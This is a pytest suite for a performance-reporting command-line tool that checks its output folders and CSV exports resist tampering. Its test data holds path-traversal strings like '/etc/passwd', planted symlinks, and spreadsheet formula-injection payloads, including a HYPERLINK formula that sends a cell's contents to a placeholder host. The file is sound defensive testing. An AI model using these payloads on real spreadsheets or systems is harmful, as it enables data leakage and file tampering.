"""Hardened outputs (issue 14): each probe an attacker with write access to a shared
``outputs/`` period folder (or a hostile employee typing a formula) tried on main, now
refused or made harmless."""

from __future__ import annotations

import csv
import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from eperformance.batch.journal import CardOutcome, Journal
from eperformance.batch.lock import BatchLock
from eperformance.batch.orchestrator import run_log
from eperformance.batch.runinfo import key_hash, make_dir, run_key
from eperformance.demo import generate_demo
from eperformance.errors import UnsafePath
from eperformance.export import neutralised, spreadsheet_safe
from eperformance.nip import make_nip
from eperformance.safefs import confined, safe_makedirs

REPO = Path(__file__).resolve().parents[1]
PERIOD = "2021-01"
UNIT = "RSA"  # a demo unit of a few employees (seed 5)
VICTIM_TEXT = "precious data of someone else\n"


def eperf(home: Path, *args: str) -> subprocess.CompletedProcess[str]:
    env = dict(os.environ, EPERF_HOME=str(home))
    env.pop("DATABASE_URL", None)
    return subprocess.run([sys.executable, "-m", "eperformance.cli", *args],
                          capture_output=True, text=True, env=env)


def one_line_error(res: subprocess.CompletedProcess[str]) -> str:
    assert "Traceback" not in res.stderr, res.stderr
    errors = [ln for ln in res.stderr.splitlines() if ln.startswith("eperf: error: ")]
    assert len(errors) == 1, res.stderr
    return errors[0]


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "victim.txt"
    path.write_text(VICTIM_TEXT)
    os.chmod(path, 0o604)
    return path


def _intact(victim: Path) -> None:
    assert victim.read_text() == VICTIM_TEXT
    assert stat.S_IMODE(victim.stat().st_mode) == 0o604


# --------------------------------------------------------------------------- unit probes
def test_planted_lock_link_is_refused(tmp_path: Path, victim: Path) -> None:
    (tmp_path / "scope").mkdir()
    (tmp_path / "scope" / ".lock").symlink_to(victim)
    with pytest.raises(UnsafePath, match="symbolic link"):
        with BatchLock(tmp_path / "scope", "2021-01/all"):
            pass
    _intact(victim)


def test_lock_hard_link_is_refused(tmp_path: Path, victim: Path) -> None:
    (tmp_path / "scope").mkdir()
    os.link(victim, tmp_path / "scope" / ".lock")
    with pytest.raises(UnsafePath, match="hard link"):
        with BatchLock(tmp_path / "scope", "2021-01/all"):
            pass
    _intact(victim)


def test_planted_journal_and_run_log_links_are_refused(tmp_path: Path, victim: Path) -> None:
    run = tmp_path / "run"
    run.mkdir()
    (run / "journal.jsonl").symlink_to(victim)
    with pytest.raises(UnsafePath):
        Journal(run).append(CardOutcome(nip="199001012015011001", status="ok"))
    (run / "run.log").symlink_to(victim)
    with pytest.raises(UnsafePath):
        with run_log(run, verbose=False):
            pass
    _intact(victim)


def test_planted_unit_folder_link_is_refused(tmp_path: Path) -> None:
    outputs = tmp_path / "outputs"
    shared = tmp_path / "tmp-like"
    shared.mkdir()
    os.chmod(shared, 0o1777)
    (outputs / PERIOD).mkdir(parents=True)
    (outputs / PERIOD / UNIT).symlink_to(shared, target_is_directory=True)
    with pytest.raises(UnsafePath, match="link"):
        make_dir(outputs / PERIOD / UNIT / "20210206T000000Z-abcdef", outputs)
    assert stat.S_IMODE(shared.stat().st_mode) == 0o1777  # the sticky bit kept
    assert list(shared.iterdir()) == []


def test_folders_are_created_0750_and_existing_ones_keep_their_mode(tmp_path: Path) -> None:
    outputs = tmp_path / "outputs"
    (outputs / PERIOD).mkdir(parents=True)
    os.chmod(outputs / PERIOD, 0o2770)  # an office's group-shared period folder
    made = safe_makedirs(outputs / PERIOD / UNIT / "run", outputs)
    assert stat.S_IMODE(made.stat().st_mode) == 0o750
    assert stat.S_IMODE((outputs / PERIOD / UNIT).stat().st_mode) == 0o750
    assert stat.S_IMODE((outputs / PERIOD).stat().st_mode) == 0o2770


def test_forged_journal_line_names_nothing_outside_its_run(tmp_path: Path,
                                                         victim: Path) -> None:
    run = tmp_path / "outputs" / PERIOD / "all" / "run"
    run.mkdir(parents=True)
    digest = hashlib.sha256(victim.read_bytes()).hexdigest()
    rel = os.path.relpath(victim, run)
    forged = {"nip": "199001012015011001", "status": "ok", "fingerprint": "f",
              "files": {rel: digest}}
    (run / "journal.jsonl").write_text(json.dumps(forged) + "\n")
    assert Journal(run).read() == {}
    assert not Journal(run).whole(CardOutcome(**forged))  # type: ignore[arg-type]
    for bad in ("../x", "/etc/passwd", "cards/../../x", "", "cards/\0x", "cards\\..\\x"):
        with pytest.raises(UnsafePath):
            confined(run, bad)
    assert confined(run, "cards/199001012015011001.html") == \
        run / "cards" / "199001012015011001.html"
    _intact(victim)


@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?"&A1,"klik")', "=1+2",
                                  "@SUM(A1:A9)", "+62 812", "-2+3", "\t=1", "\r=1", "＝1+2"])
def test_formula_cells_are_neutralised(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text
    import pandas as pd

    frame = pd.DataFrame({"note": [text, "biasa"], "nilai": ["-0.50", "1.00"]})
    out = neutralised(frame, keep=["nilai"])
    assert list(out["note"]) == ["'" + text, "biasa"] and list(out["nilai"]) == ["-0.50",
                                                                                  "1.00"]


# --------------------------------------------------------------------------- end to end
@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hardening")
    home = root / "home"
    home.mkdir()
    shutil.copytree(REPO / "params", home / "params")
    demo = root / "demo"
    generate_demo(demo, employees=10, months=1, seed=5)
    res = eperf(home, "ingest", str(demo))
    assert res.returncode == 0, res.stderr
    return home


def _hostile_files(folder: Path) -> Path:
    """A unit and two employees whose text is formulas, with rejected, revised and late
    decisions carrying them into the rekap's detail lists."""
    boss = make_nip(date(1970, 1, 1), 1995, 3, "L", 901)
    staff = make_nip(date(1990, 1, 1), 2015, 3, "P", 902)
    folder.mkdir()
    rows = {
        "units": [["unit_code", "name", "parent_code"], ["HOSTILE", "=1+2 Biro", ""]],
        "employees": [["nip", "name", "gender", "unit_code", "position", "position_type",
                       "grade", "supervisor_nip"],
                      [boss, "@Kepala", "L", "HOSTILE", "Kepala", "administrator", "IV/a", ""],
                      [staff, "+Staf", "P", "HOSTILE", "Analis", "pelaksana", "III/a", boss]],
        "assignments": [["assignment_id", "nip", "assigned_by_nip", "period", "activity_code",
                         "title", "target_quantity", "start_date", "due_date"],
                        ["H1", staff, boss, PERIOD, "ARSIP-TATA", "-Tugas", "3", "2021-01-04",
                         "2021-01-29"]],
        "activities": [["activity_id", "nip", "date", "start_time", "end_time",
                        "activity_code", "assignment_id", "quantity", "description"],
                       ["HE1", staff, "2021-01-05", "08:00", "09:00", "ARSIP-TATA", "H1", "1",
                        '=HYPERLINK("http://x.example/","klik")'],
                       ["HE2", staff, "2021-01-06", "08:00", "09:00", "ARSIP-TATA", "H1", "1",
                        "\t=1+2"],
                       ["HE3", staff, "2021-01-07", "08:00", "09:00", "ARSIP-TATA", "H1", "1",
                        "@SUM(A1)"]],
        "verifications": [["verification_id", "activity_id", "verifier_nip", "status",
                           "decided_at", "quality", "note"],
                          ["HV1", "HE1", boss, "rejected", "2021-01-08T09:00:00", "", "=1+2"],
                          ["HV2", "HE2", boss, "revision", "2021-01-08T09:00:00", "",
                           "-2+3"],
                          ["HV3", "HE3", boss, "approved", "2021-02-20T09:00:00", "90",
                           "+terlambat"]],
    }
    for name, table in rows.items():
        with (folder / f"{name}.csv").open("w", newline="", encoding="utf-8") as fh:
            csv.writer(fh).writerows(table)
    return folder


def test_rekap_csv_cells_never_start_a_formula(home: Path, tmp_path: Path) -> None:
    hostile = _hostile_files(tmp_path / "hostile")
    res = eperf(home, "ingest", str(hostile))
    assert res.returncode == 0, res.stdout + res.stderr
    res = eperf(home, "rekap", "--period", PERIOD, "--unit", "HOSTILE", "--out",
                str(tmp_path / "rekap"))
    assert res.returncode == 0, res.stderr
    seen: set[str] = set()
    for path in (tmp_path / "rekap").glob("*.csv"):
        for row in csv.reader(path.open(encoding="utf-8")):
            for cell in row:
                if cell[:1] in ("=", "+", "@", "\t", "\r") or (
                        cell.startswith("-") and not cell.replace("-", "", 1)
                        .replace(".", "", 1).isdigit()):
                    pytest.fail(f"{path.name}: a cell a spreadsheet would evaluate: {cell!r}")
                seen.add(cell)
    # the text is kept, behind an apostrophe
    assert "'=1+2 Biro" in seen
    assert '\'=HYPERLINK("http://x.example/","klik")' in seen and "'\t=1+2" in seen
    assert "'=1+2" in seen and "'-2+3" in seen and "'+terlambat" in seen


def test_planted_run_folder_is_not_resumed(home: Path) -> None:
    settings_version = "1.0.0"  # params/schemes/permenpan-6-2022.yaml
    key = run_key(PERIOD, UNIT, "permenpan-6-2022", settings_version, False, "id", ("html",))
    scope = home / "outputs" / PERIOD / UNIT
    planted = scope / f"20200101T000000Z-{key_hash(key)}"
    (planted / "cards").mkdir(parents=True)
    (planted / "journal.jsonl").write_text("")
    res = eperf(home, "batch", "--period", PERIOD, "--unit", UNIT, "--format", "html")
    assert res.returncode == 0, res.stdout + res.stderr
    assert "(resumed)" not in res.stdout
    assert f"ignoring run folder {planted}" in res.stderr
    assert list((planted / "cards").iterdir()) == []  # left alone
    latest = (scope / "latest").resolve()
    assert latest != planted and (latest / "manifest.json").is_file()


def test_failed_card_does_not_write_through_a_planted_link(home: Path, tmp_path: Path,
                                                           victim: Path) -> None:
    """A card whose notebook fails in the kernel keeps the executed notebook in
    single/failed/ by rename (a planted link there is replaced, its target untouched)."""
    nip = _scores(home)[1].split(",")[0]
    broken = tmp_path / "home"
    broken.mkdir()
    for sub in ("params", "notebooks", "data"):
        shutil.copytree((REPO if sub != "data" else home) / sub, broken / sub)
    path = broken / "notebooks" / "10-rapor-personal.ipynb"
    nb = json.loads(path.read_text())
    nb["cells"].append({"cell_type": "code", "execution_count": None, "id": "boom",
                        "metadata": {}, "outputs": [],
                        "source": "raise RuntimeError('the template broke')"})
    path.write_text(json.dumps(nb))
    home = broken
    GHOST = nip  # noqa: N806 - the employee whose card fails
    single = home / "outputs" / PERIOD / "single"
    (single / "failed").mkdir(parents=True, exist_ok=True)
    name = f"{GHOST}_permenpan-6-2022_id"
    (single / "failed" / f"{name}.ipynb").symlink_to(victim)
    (single / f"{name}.html").write_text("an older card of this employee")
    res = eperf(home, "card", "--nip", GHOST, "--period", PERIOD, "--format", "html")
    assert res.returncode == 1, res.stdout + res.stderr  # a broken notebook is a bug
    assert "the template broke" in res.stderr
    _intact(victim)
    kept = single / "failed" / f"{name}.ipynb"
    assert not kept.is_symlink() and json.loads(kept.read_text())["cells"]
    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
    assert not (single / f"{name}.html").exists()  # no stale card survives the failure


def test_single_cards_are_private_and_never_share_a_path(home: Path) -> None:
    nip = _scores(home)[1].split(",")[0]
    made = []
    for scheme, lang in (("permenpan-6-2022", "id"), ("pp-30-2019", "id"),
                         ("permenpan-6-2022", "en")):
        res = eperf(home, "card", "--nip", nip, "--period", PERIOD, "--scheme", scheme,
                    "--lang", lang, "--format", "html")
        assert res.returncode == 0, res.stderr
        path = home / "outputs" / PERIOD / "single" / f"{nip}_{scheme}_{lang}.html"
        assert path.is_file() and stat.S_IMODE(path.stat().st_mode) == 0o640
        made.append(path.read_text())
    assert len(set(made)) == 3
    assert stat.S_IMODE((home / "outputs" / PERIOD / "single").stat().st_mode) == 0o750
    db = home / "data" / "workbook.sqlite"
    assert stat.S_IMODE(db.stat().st_mode) == 0o600


def _scores(home: Path) -> list[str]:
    out = home / "scores-for-nip.csv"
    res = eperf(home, "score", "--period", PERIOD, "--unit", UNIT, "--out", str(out))
    assert res.returncode == 0, res.stderr
    return out.read_text().splitlines()


@pytest.mark.parametrize("case", ["long name", "under a file", "folder"])
def test_bad_output_paths_are_one_line(case: str, home: Path, tmp_path: Path) -> None:
    (tmp_path / "a-file").write_text("x")
    out = {"long name": tmp_path / ("n" * 300 + ".csv"),
           "under a file": tmp_path / "a-file" / "scores.csv",
           "folder": tmp_path / "a-file" / "rekap"}[case]
    if case == "folder":  # rekap's --out is a folder; here it would be inside a file
        res = eperf(home, "rekap", "--period", PERIOD, "--out", str(out))
    else:
        res = eperf(home, "score", "--period", PERIOD, "--out", str(out))
    assert res.returncode == 2, res.stdout + res.stderr
    assert "cannot write" in one_line_error(res)


def test_rejects_key_is_spreadsheet_safe(home: Path, tmp_path: Path) -> None:
    folder = tmp_path / "bad"
    folder.mkdir()
    (folder / "units.csv").write_text('unit_code,name,parent_code\n"=HYPERLINK(""x"")",Biro,\n'
                                      "@SUM(1),Biro,\n", encoding="utf-8")
    res = eperf(home, "ingest", str(folder))
    assert res.returncode == 3, res.stdout + res.stderr
    rows = list(csv.DictReader((folder / "rejects.csv").open(encoding="utf-8")))
    assert [r["key"] for r in rows] == ["'=HYPERLINK(\"x\")", "'@SUM(1)"]
    assert json.loads(rows[0]["values"])["unit_code"] == '=HYPERLINK("x")'  # data as typed
